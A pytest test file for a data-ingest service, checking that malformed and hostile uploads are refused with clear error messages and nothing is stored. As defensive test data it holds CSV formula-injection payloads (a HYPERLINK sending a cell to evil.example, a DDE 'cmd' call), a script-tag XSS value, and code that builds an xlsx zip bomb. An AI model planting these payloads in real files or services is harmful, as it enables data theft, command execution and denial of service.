"""Every hostile or broken file ends in a clear error and stores nothing."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter

from simpul.datasets.models import Observation
from simpul.ingest.models import RunStatus
from simpul.ingest.report import MESSAGES

HERE = Path(__file__).parent
HEAD = "indikator,wilayah,tahun,nilai\n"


def assert_refused(run: Any, *codes: str) -> list[dict[str, Any]]:
    assert run.status == RunStatus.INVALID, run.report
    errors = run.report["errors"]
    assert errors, "an invalid run must say why"
    assert {e["code"] for e in errors} <= set(codes) | {"_"}, errors
    for error in errors:
        assert error["message"]
        assert error["message"] != error["code"]
        assert error["code"] != "internal_error"
    assert Observation.objects.count() == 0
    return errors


@pytest.mark.parametrize(
    ("name", "codes"),
    [
        ("empty.csv", {"empty_file"}),
        ("whitespace_only.csv", {"empty_file"}),
        ("header_only.csv", {"no_data_rows"}),
        ("binary_junk.csv", {"binary_file"}),
        ("pdf_named.csv", {"binary_file"}),
        ("truncated.xlsx", {"bad_xlsx"}),
        ("xlsx_named.csv", {"bad_xlsx"}),
        ("legacy.xls", {"xls_not_supported"}),
        ("mixed_encoding.csv", {"mixed_encoding"}),
        ("nul_bytes.csv", {"binary_file"}),
        ("duplicate_headers.csv", {"duplicate_header"}),
        ("ragged_rows.csv", {"ragged_row"}),
        ("formulas.csv", {"unknown_region", "not_a_number", "unknown_indicator"}),
        ("html_script.csv", {"unknown_indicator", "unknown_region", "bad_period"}),
        ("unclosed_quote.csv", {"bad_csv"}),
    ],
)
def test_corpus_file_is_refused_clearly(upload: Any, name: str, codes: set[str]) -> None:
    content = (HERE / name).read_bytes()
    assert_refused(upload(content, file_name=name), *codes)


def test_the_failing_row_is_named(upload: Any) -> None:
    errors = assert_refused(upload((HERE / "mixed_encoding.csv").read_bytes()), "mixed_encoding")
    assert errors[0]["row"] == 3
    errors = assert_refused(upload((HERE / "ragged_rows.csv").read_bytes()), "ragged_row")
    assert errors[0]["row"] == 3
    errors = assert_refused(upload((HERE / "duplicate_headers.csv").read_bytes()), "duplicate_header")
    assert "kolom 4 dan 5" in errors[0]["message"]


def test_formulas_and_markup_come_back_as_plain_text_values(upload: Any) -> None:
    errors = assert_refused(upload((HERE / "formulas.csv").read_bytes()), *MESSAGES)
    assert [(e["row"], e["value"]) for e in errors] == [
        (2, '=HYPERLINK("http://evil.example/?"&A1)'),
        (3, "=1+2"),
        (4, "@SUM(A1)"),
        (5, "=cmd|' /C calc'!A0"),
    ]
    errors = assert_refused(upload((HERE / "html_script.csv").read_bytes()), *MESSAGES)
    assert errors[1]["value"] == "<script>alert(1)</script>"


def test_file_over_the_size_limit(upload: Any, settings: Any) -> None:
    settings.SIMPUL_MAX_UPLOAD_MB = 1
    content = (HEAD + "IPM,18.01,2023,70\n" * 60_000).encode()
    assert len(content) > 1024 * 1024
    errors = assert_refused(upload(content), "file_too_large")
    assert "1 MB" in errors[0]["message"]


def test_ten_thousand_columns(upload: Any) -> None:
    header = ",".join(f"kolom{i}" for i in range(10_000))
    row = ",".join("1" for _ in range(10_000))
    errors = assert_refused(upload(f"{header}\n{row}\n"), "too_many_columns")
    assert "10000" in errors[0]["message"]


def test_one_million_character_cell(upload: Any) -> None:
    errors = assert_refused(upload(HEAD + "IPM,18.01,2023," + "9" * 1_000_000 + "\n"), "cell_too_long")
    assert (errors[0]["row"], errors[0]["column"]) == (2, "nilai")


def test_xlsx_zip_bomb(upload: Any, settings: Any) -> None:
    settings.SIMPUL_MAX_UPLOAD_MB = 1
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    book.add_worksheet("Data").write_row(0, 0, ["indikator", "wilayah", "tahun", "nilai"])
    book.close()
    # Re-pack with a sheet that inflates from ~20 KB to 20 MB.
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", b" " * 20_000_000 + b"</sheetData>")
            out.writestr(item.filename, data)
    content = bomb.getvalue()
    assert len(content) < 1024 * 1024
    assert_refused(upload(content, file_name="bom.xlsx"), "xlsx_too_large")


def test_xlsx_with_junk_cells_reports_rows(upload: Any) -> None:
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet("Data")
    sheet.write_row(0, 0, ["indikator", "wilayah", "tahun", "nilai"])
    sheet.write_row(1, 0, ["IPM", "18.01", "2023"])
    sheet.write_string(1, 3, "=1+1")
    sheet.write_formula(2, 3, "=1+1", None, 2)
    sheet.write_row(2, 0, ["IPM", "18.02", "2023"])
    book.close()
    errors = assert_refused(upload(buffer.getvalue(), file_name="f.xlsx"), "not_a_number")
    # A formula typed as text is refused; a real formula counts as its cached result (2), which is valid.
    assert [(e["row"], e["value"]) for e in errors] == [(2, "=1+1")]
